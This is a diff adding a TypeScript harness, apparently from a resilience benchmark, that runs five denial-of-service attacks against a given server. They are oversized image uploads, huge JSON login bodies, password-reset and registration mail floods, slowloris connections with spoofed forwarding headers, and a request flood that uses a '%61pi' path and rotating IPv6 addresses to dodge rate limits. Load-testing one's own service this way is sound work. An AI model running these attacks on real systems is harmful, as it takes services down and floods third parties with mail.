@@ -1,0 +1,121 @@
+/**
+ * One hostile person, in a process of their own: `node attacks.ts KIND ORIGIN TOKEN PROJECT`, until it is ended.
+ * They have one IPv4 address, one IPv6 network of the size that a provider hands out, and the account of an owner.
+ */
+import { connect } from 'node:net';
+import { setTimeout as wait } from 'node:timers/promises';
+import sharp from 'sharp';
+import { call } from './calls.ts';
+
+export const ATTACKS = ['pictures', 'bodies', 'mails', 'slow bodies', 'flood'] as const;
+export type Attack = (typeof ATTACKS)[number];
+
+const HOME = '203.0.113.66';
+const [, , kind = '', origin = '', token = '', projectId = ''] = process.argv;
+const api = `${origin}/api`;
+let count = 0;
+
+/** The next address of the same /48, each in another /64. */
+const nextAddress = () => `2001:db8:bad:${(count++ % 0xffff).toString(16)}::1`;
+
+/** Does something over and over, so many at once. */
+async function keep(atOnce: number, work: () => Promise<unknown>): Promise<void> {
+  const one = async () => {
+    for (;;) {
+      const began = performance.now();
+      await work().catch(() => {});
+      // what is refused at once is tried again ten times a second
+      if (performance.now() - began < 100) await wait(100);
+    }
+  };
+  await Promise.all(Array.from({ length: atOnce }, one));
+}
+
+/** Does something so many times a second, whether it is answered or not. */
+function each(perSecond: number, work: () => Promise<unknown>): void {
+  setInterval(() => void work().catch(() => {}), 1000 / perSecond);
+}
+
+const flatPicture = (side: number) =>
+  sharp({ create: { width: side, height: side, channels: 3, background: '#c65a3a' } })
+    .png({ compressionLevel: 9 })
+    .toBuffer();
+
+async function sendPictures(): Promise<void> {
+  // one of more megapixels than a camera's, one of the most that may be allowed
+  const files = await Promise.all([7000, 5000].map(flatPicture));
+  const boundary = 'ladrillo-bench';
+  const forms = files.map((file) =>
+    Buffer.concat([
+      Buffer.from(
+        `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nimage\r\n` +
+          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`,
+      ),
+      file,
+      Buffer.from(`\r\n--${boundary}--\r\n`),
+    ]),
+  );
+  await keep(10, () =>
+    call({
+      ...{ method: 'POST', url: `${api}/resources/${projectId}/upload`, from: HOME, token },
+      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
+      body: forms[count++ % forms.length] ?? Buffer.alloc(0),
+    }),
+  );
+}
+
+async function sendBodies(): Promise<void> {
+  const keys = Array.from({ length: 600_000 }, (_, at) => `"k${at}":${at % 10}`);
+  const body = Buffer.from(`{${keys.join(',')}}`);
+  const headers = { 'content-type': 'application/json' };
+  const common = { method: 'POST' as const, headers, body };
+  await keep(2, () => call({ ...common, url: `${api}/auth/login`, from: nextAddress() }));
+}
+
+function askForMails(): void {
+  const send = (path: string, data: unknown) =>
+    call({
+      ...{ method: 'POST', url: `${api}${path}`, from: nextAddress() },
+      headers: { 'content-type': 'application/json' },
+      body: Buffer.from(JSON.stringify(data)),
+    });
+  each(15, () => send('/auth/recover-password', { email: `nadie${count}@bench.test` }));
+  each(5, () =>
+    send('/users/register', {
+      ...{ name: 'Nadie', lastname: 'Nadie', email: `nadie${count}@bench.test` },
+      ...{ password: 'Ladrillo-2026-x', acceptTerms: true },
+    }),
+  );
+}
+
+function trickle(): void {
+  const { hostname, port } = new URL(origin);
+  let closed = 0;
+  for (let at = 0; at < 200; at += 1) {
+    const socket = connect(Number(port), hostname);
+    socket.on('error', () => {});
+    socket.on('close', () => process.send?.({ closed: ++closed }));
+    socket.write(
+      `POST /api/auth/login HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${nextAddress()}\r\n` +
+        'Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n{',
+    );
+    setInterval(() => socket.writable && socket.write(' '), 1000);
+  }
+}
+
+function flood(): void {
+  const at = { from: HOME };
+  each(150, () => call({ ...at, url: `${api}/projects/guest?pageSize=${1 + (count++ % 100)}` }));
+  each(150, () =>
+    call({ ...at, url: `${origin}/%61pi/projects/guest?pageSize=${1 + (count++ % 100)}` }),
+  );
+}
+
+const START: Record<string, () => unknown> = {
+  pictures: sendPictures,
+  bodies: sendBodies,
+  mails: askForMails,
+  'slow bodies': trickle,
+  flood,
+};
+if (process.send) START[kind]?.();
